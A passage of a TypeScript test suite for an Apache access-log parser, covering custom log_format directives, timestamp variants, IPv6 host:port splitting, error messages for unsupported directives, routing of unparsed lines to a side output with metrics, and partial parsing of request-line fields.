    assert.deepEqual(pick(e, ['client_ip', 'user', 'method', 'path', 'query', 'protocol', 'status', 'bytes', 'referer', 'user_agent', 'http_x_forwarded_for', 'duration_us', 'timestamp']), {
      client_ip: '10.0.0.5', user: 'bob', method: 'POST', path: '/api', query: 'x=1', protocol: 'HTTP/2.0', status: 201, bytes: 17, referer: null,
      user_agent: 'curl/8', http_x_forwarded_for: '203.0.113.7, 10.0.0.1', duration_us: 1234, timestamp: T_MS,
    });
  });

  it('%{format}t with %{msec_frac}t and a separate %{%z}t (the mod_log_config example)', () => {
    const format = '%h [%{%d/%b/%Y %T}t.%{msec_frac}t %{%z}t] "%r" %>s %b';
    const e = fields('h [10/Oct/2000 13:55:36.042 -0700] "GET / HTTP/1.1" 200 5', { log_format: format, timezone: 'Europe/Paris' });
    assert.equal(e.timestamp, T_MS + 42);
    assert.deepEqual(Object.keys(e).filter((k) => k.startsWith('timestamp')), ['timestamp']);
    // Without the zone field the configured time zone applies.
    const local = fields('h [10/Oct/2000 13:55:36.042] "GET / HTTP/1.1" 200 5', { log_format: '%h [%{%d/%b/%Y %T}t.%{msec_frac}t] "%r" %>s %b', timezone: '+0200' });
    assert.equal(local.timestamp, Date.parse('2000-10-10T11:55:36.042Z'));
  });

  it('%{format}t with %z inside, %{sec}t, %{msec}t, %{usec_frac}t, %{begin:...}t', () => {
    assert.equal(fields('h 2000-10-10T13:55:36-0700 "GET / HTTP/1.1" 200', { log_format: '%h %{%Y-%m-%dT%H:%M:%S%z}t "%r" %>s' }).timestamp, T_MS);
    assert.equal(fields('h 971211336.250000 "GET / HTTP/1.1" 200', { log_format: '%h %{sec}t.%{usec_frac}t "%r" %>s' }).timestamp, T_MS + 250);
    assert.equal(fields('h 971211336123 "GET / HTTP/1.1" 200', { log_format: '%h %{msec}t "%r" %>s' }).timestamp, T_MS + 123);
    assert.equal(fields('h [10/Oct/2000:20:55:36] "GET / HTTP/1.1" 200', { log_format: '%h [%{begin:%d/%b/%Y:%H:%M:%S}t] "%r" %>s', timezone: 'UTC' }).timestamp, T_MS);
    assert.equal(parseOne('h [10/Oct/2000:25:55:36] "GET / HTTP/1.1" 200', { log_format: '%h [%{%d/%b/%Y:%H:%M:%S}t] "%r" %>s' }), 'format_mismatch');
  });

  it('%v:%p and %a:%{remote}p with IPv6 on both sides', () => {
    const e = fields('www.example.com:443 ::1:51234 "GET / HTTP/1.1" 200', { log_format: '%v:%p %a:%{remote}p "%r" %>s' });
    assert.deepEqual(pick(e, ['vhost', 'port', 'client_ip', 'client_port']), { vhost: 'www.example.com', port: 443, client_ip: '::1', client_port: 51234 });
    const f = fields('fe80::1:8080 2001:db8::7:40000 "GET / HTTP/1.1" 200', { log_format: '%v:%p %a:%{remote}p "%r" %>s' });
    assert.deepEqual(pick(f, ['vhost', 'port', 'client_ip', 'client_port']), { vhost: 'fe80::1', port: 8080, client_ip: '2001:db8::7', client_port: 40000 });
  });

  it('%>s vs %s: with both, %s is the original status; alone, either is status', () => {
    assert.deepEqual(pick(fields('h "GET / HTTP/1.1" 302 200', { log_format: '%h "%r" %s %>s' }), ['original_status', 'status']), { original_status: 302, status: 200 });
    assert.deepEqual(pick(fields('h "GET / HTTP/1.1" 302', { log_format: '%h "%r" %s' }), ['original_status', 'status']), { original_status: undefined, status: 302 });
    assert.deepEqual(pick(fields('h "GET / HTTP/1.1" 302', { log_format: '%h "%r" %<s' }), ['original_status', 'status']), { original_status: 302, status: undefined });
  });

  it('%h with %a: %h is remote_host, %a is client_ip; %b and %O both present: bytes and bytes_sent', () => {
    const e = fields('proxy.example ::1 "GET / HTTP/1.1" 200 5 900', { log_format: '%h %a "%r" %>s %b %O' });
    assert.deepEqual(pick(e, ['remote_host', 'client_ip', 'bytes', 'bytes_sent']), { remote_host: 'proxy.example', client_ip: '::1', bytes: 5, bytes_sent: 900 });
  });

  it('an unsupported directive is a clear error at create', async () => {
    for (const [format, message] of [
      ['%h %Z', /invalid log_format: unsupported directive %Z; supported: %a /],
      ['%h %{foo}x', /unsupported directive %\{foo\}x/],
      ['%h %{bogus}p', /unsupported directive %\{bogus\}p/],
      ['no directive at all', /has no % directive/],
    ] as const) {
      await assert.rejects(async () => accessPlugin.create({ field: 'message', format: 'combined', log_format: format, timezone: 'UTC' }, contextFor('bad', 'apache_access')), message);
    }
    await assert.rejects(async () => accessPlugin.create({ field: 'message', format: 'combined', log_format: '%h %{%Q}t', timezone: 'UTC' }, contextFor('bad', 'apache_access')), /unsupported time format directive %Q/);
  });
});

describe('apache_access: unparsed lines', () => {
  it('go to ID._unparsed with parse_error, are counted, and are never thrown', async () => {
    const hub = new MetricsHub();
    const filter = (await accessPlugin.create({ field: 'message', format: 'combined', timezone: 'UTC' }, contextFor('web', 'apache_access', hub))) as FilterInstance;
    const good = `h - - ${T} "GET / HTTP/1.1" 200 5`;
    const batch: Event[] = [
      { message: good },
      { message: '' },
      { message: '\r' },
      { message: 42 },
      {},
      { message: 'Jan  3 09:47:02 veridian sudo: timstack : TTY=pts/6' },
      { message: `h - - [10/Oct/2000:13:61:36 -0700] "GET / HTTP/1.1" 200 5` },
      { message: `[Thu Oct 13 12:24:49.880562 2022] [auth_basic:error] [pid 10:tid 1] AH01618: user sss not found: /` },
      { message: good + '\r' },
    ];
    const side: Array<{ output: string | undefined; events: Event[] }> = [];
    const out = filter.process(batch, { emit: (events, output) => void side.push({ output, events }) }) as Event[];
    assert.equal(out.length, 2);
    assert.equal(side.length, 1);
    assert.equal(side[0].output, '_unparsed');
    assert.deepEqual(side[0].events.map((e) => e.parse_error), ['empty_line', 'empty_line', 'not_a_string', 'not_a_string', 'format_mismatch', 'bad_timestamp', 'format_mismatch']);
    assert.deepEqual(side[0].events.map((e) => e.message), ['', '\r', 42, undefined, batch[5].message, batch[6].message, batch[7].message]);
    assert.ok(side[0].events.every((e) => !('status' in e) && !('client_ip' in e)), 'an unparsed line gets no fields');
    const custom = hub.snapshot().web.custom;
    assert.equal(custom.visor_parser_parsed_lines_total, 2);
    assert.equal(custom.visor_parser_unparsed_lines_total, 7);
    assert.equal(custom.visor_parser_unparsed_empty_line_total, 2);
    assert.equal(custom.visor_parser_unparsed_not_a_string_total, 2);
    assert.equal(custom.visor_parser_unparsed_format_mismatch_total, 2);
    assert.equal(custom.visor_parser_unparsed_bad_timestamp_total, 1);
    // A batch with nothing unparsed emits nothing on the side output.
    side.length = 0;
    assert.equal((filter.process([{ message: good }], { emit: (events, output) => void side.push({ output, events }) }) as Event[]).length, 1);
    assert.equal(side.length, 0);
  });

  it('a line that nearly fits never leaves half-written fields on the event (format auto)', () => {
    const parser = buildAccessParser({ format: 'auto', timezone: 'UTC' });
    const e: Access = { n: 0, message: 'x' };
    assert.equal(parser.parse(`h - - ${T} "GET / HTTP/1.1" abc 5`, e), 'format_mismatch');
    assert.deepEqual(e, { n: 0, message: 'x' });
    const line = `h - - ${T} "GET / HTTP/1.1" 200 5 "r" "ua" "-"`;
    const f: Access = { n: 0, message: line };
    assert.equal(parser.parse(line, f), undefined);
    assert.deepEqual(Object.keys(f), ['n', 'message', 'client_ip', 'ident', 'user', 'timestamp', 'method', 'url', 'path', 'query', 'protocol', 'status', 'bytes', 'referer', 'user_agent']);
  });
});

describe('apache_access: adjacent and unquoted directives', () => {
  const parse = (log_format: string, line: string) => {
    const event: Record<string, unknown> = {};
    const failure = buildAccessParser({ format: 'combined', log_format, timezone: 'UTC' }).parse(line, event);
    return { failure, event };
  };

  it('%U%q written together: path and query split at the ?', () => {
    assert.deepEqual(parse('%h %U%q %>s', '1.2.3.4 /a?b=c 200'), { failure: undefined, event: { client_ip: '1.2.3.4', path: '/a', query: 'b=c', status: 200 } });
    assert.deepEqual(parse('%h %U%q %>s', '1.2.3.4 /a 404').event, { client_ip: '1.2.3.4', path: '/a', query: null, status: 404 });
  });

  it('an unquoted %r (METHOD SP target SP protocol) parses', () => {
    const { failure, event } = parse('%h %r %>s %b', '1.2.3.4 GET /x?y HTTP/1.1 200 12');
    assert.equal(failure, undefined);
    assert.equal(event.method, 'GET');
    assert.equal(event.url, '/x?y');
    assert.equal(event.protocol, 'HTTP/1.1');
    assert.equal(event.status, 200);
    assert.equal(event.bytes, 12);
  });

  it('other directives with nothing between them are refused with a clear message', () => {
    assert.throws(() => buildAccessParser({ format: 'combined', log_format: '%h%u %>s', timezone: 'UTC' }), /%h%u .* cannot be told apart; put a separator between them/);
  });
});

describe('apache_access: a request line gives only the fields read downstream', () => {
  const REQUEST = ['method', 'url', 'path', 'query', 'protocol'];
  const own = (e: Event, f: string) => Object.hasOwn(e, f);

  it('each subset read: the values of the full parse, the other request fields not written, the same lines unparsed', function () {
    const dir = corpus(this, 'raspim-raspbian-apache22');
    const lines = [
      ...readLines(path.join(dir, 'access.log.1')), ...readLines(path.join(dir, 'access.log.2.gz')),
      // The forms the split tells apart, besides the corpus's junk, TLS bytes and OPTIONS *:
      ...['CONNECT example.com:443 HTTP/1.1', 'GET http://h:80/a/b?c=d HTTP/1.1', 'GET https://h HTTP/1.1', 'GET /a\\x2fb?q HTTP/1.1',
        'GET /a\\nb HTTP/1.1', 'GET /?  HTTP/1.0', 'GET /x', 'get /x HTTP/1.1', 'OPTIONS /x HTTP/1.1', 'GET  /two-spaces   HTTP/1.1', '-', '']
        .map((r) => `192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] "${r}" 200 5 "-" "ua"`),
    ];
    const options = { format: 'combined', timezone: 'UTC' } as const;
    const full = buildAccessParser(options);
    for (const wanted of [['path'], ['method', 'protocol'], ['url'], ['path', 'query'], ['status']]) {
      const partial = buildAccessParser(options, new Set(wanted));
      let parsed = 0;
      let malformed = 0;
      for (const line of lines) {
        const a: Event = {};
        const b: Event = {};
        const failure = full.parse(line, a);
        assert.equal(partial.parse(line, b), failure, line);
        if (failure !== undefined) continue;
        parsed++;
        if (a.method === null && a.url !== null) malformed++;
        for (const f of REQUEST) {
          if (wanted.includes(f)) assert.deepEqual([own(b, f), b[f]], [true, a[f]], `${f} of ${line}`);
          else assert.equal(own(b, f), false, `${f} written for ${JSON.stringify(wanted)}: ${line}`);
        }
      }
      assert.ok(parsed > 1000 && malformed >= 5, `${parsed} parsed, ${malformed} malformed requests`);
    }
  });
});
